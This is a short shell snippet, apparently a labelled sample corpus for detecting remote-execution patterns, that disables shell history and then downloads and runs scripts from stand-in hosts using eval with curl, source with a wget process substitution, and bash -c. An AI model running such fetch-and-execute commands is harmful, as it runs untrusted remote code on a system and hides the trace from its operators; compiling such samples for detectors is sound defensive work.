# corpus: eval of a script body downloaded with curl and source of a process substitution from wget
set +o history
eval "$(curl -fsSL http://evil.example.net/bootstrap.sh)"
source <(wget -qO- http://198.51.100.7/profile.sh)
bash -c "$(curl -s https://setup.invalid/run)"
